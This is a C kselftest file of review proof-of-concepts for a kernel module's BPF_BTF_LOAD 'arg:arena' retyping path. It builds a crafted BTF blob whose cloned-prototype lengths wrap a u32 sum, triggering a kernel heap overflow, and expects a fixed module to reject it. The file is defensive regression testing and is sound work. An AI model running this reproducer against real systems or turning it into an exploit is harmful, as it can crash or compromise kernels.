// SPDX-License-Identifier: GPL-2.0
/*
 * Review PoCs for module/btf_load.c (BPF_BTF_LOAD, "arg:arena" retyping).
 *
 * Who reaches it: any CAP_BPF caller of BPF_BTF_LOAD on 6.1 with the module.
 * retype_arg_arena() sums the lengths of the prototypes it clones in a u32
 * ("added"): N tagged FUNCs sharing one 65535-parameter prototype (524292
 * bytes) add N * 524292, which wraps for N = 8192 to 32768.  The bound check
 * and the allocation use the wrapped sum; the copy loop then writes the full
 * 4 GiB + 32 KiB into the 800 KiB buffer: a kernel heap overflow from a
 * 760 KiB blob, before the kernel's own BTF validation runs.
 *
 * Expected (fixed module): the load fails cleanly (the kernel refuses the
 * blob or the module declines to retype it) and the kernel stays alive.
 * Today: the guest oopses inside arena_btf_load (memcpy past the buffer).
 */
#include <errno.h>
#include <stdint.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>
#include <string.h>
#include <linux/btf.h>

#include "kselftest_harness.h"
#include "test_util.h"

#define NFUNCS		8192
#define PROTO_VLEN	0xffff

static const char strs[] = "\0int\0f\0arg:arena";
#define S_INT	1
#define S_F	5
#define S_TAG	7

TEST(arg_arena_retype_size_overflow)
{
	size_t type_len = 16 + 12 + 8 * PROTO_VLEN + NFUNCS * (12 + 16);
	size_t size = sizeof(struct btf_header) + type_len + sizeof(strs);
	uint8_t *blob = calloc(1, size);
	struct btf_header *h = (void *)blob;
	uint32_t *p, i;
	union bpf_attr attr;
	long fd;

	ASSERT_NE(NULL, blob);
	h->magic = BTF_MAGIC;
	h->version = BTF_VERSION;
	h->hdr_len = sizeof(*h);
	h->type_off = 0;
	h->type_len = type_len;
	h->str_off = type_len;
	h->str_len = sizeof(strs);
	p = (uint32_t *)(blob + sizeof(*h));
	/* [1] int */
	p = btf_put_type(p, S_INT, BTF_KIND_INT, 0, 4);
	*p++ = 32;
	/* [2] int (int, int, ... x 65535) */
	p = btf_put_type(p, 0, BTF_KIND_FUNC_PROTO, PROTO_VLEN, 1);
	for (i = 0; i < PROTO_VLEN; i++) {
		*p++ = 0;
		*p++ = 1;
	}
	/* [3 .. 3 + N) FUNC f, global, all sharing [2] */
	for (i = 0; i < NFUNCS; i++)
		p = btf_put_type(p, S_F, BTF_KIND_FUNC, 1, 2);
	/* one "arg:arena" decl tag on parameter 0 of each FUNC */
	for (i = 0; i < NFUNCS; i++) {
		p = btf_put_type(p, S_TAG, BTF_KIND_DECL_TAG, 0, 3 + i);
		*p++ = 0;
	}
	ASSERT_EQ((uint8_t *)p, blob + sizeof(*h) + type_len);
	memcpy(p, strs, sizeof(strs));

	memset(&attr, 0, sizeof(attr));
	attr.btf = ptr_u64(blob);
	attr.btf_size = size;
	fd = bpf_sys(BPF_BTF_LOAD, &attr);
	/* Reaching here at all is the point; stock 6.1 refuses the blob. */
	if (fd >= 0)
		close(fd);
	EXPECT_GT(0, fd);
	free(blob);
}

TEST_HARNESS_MAIN
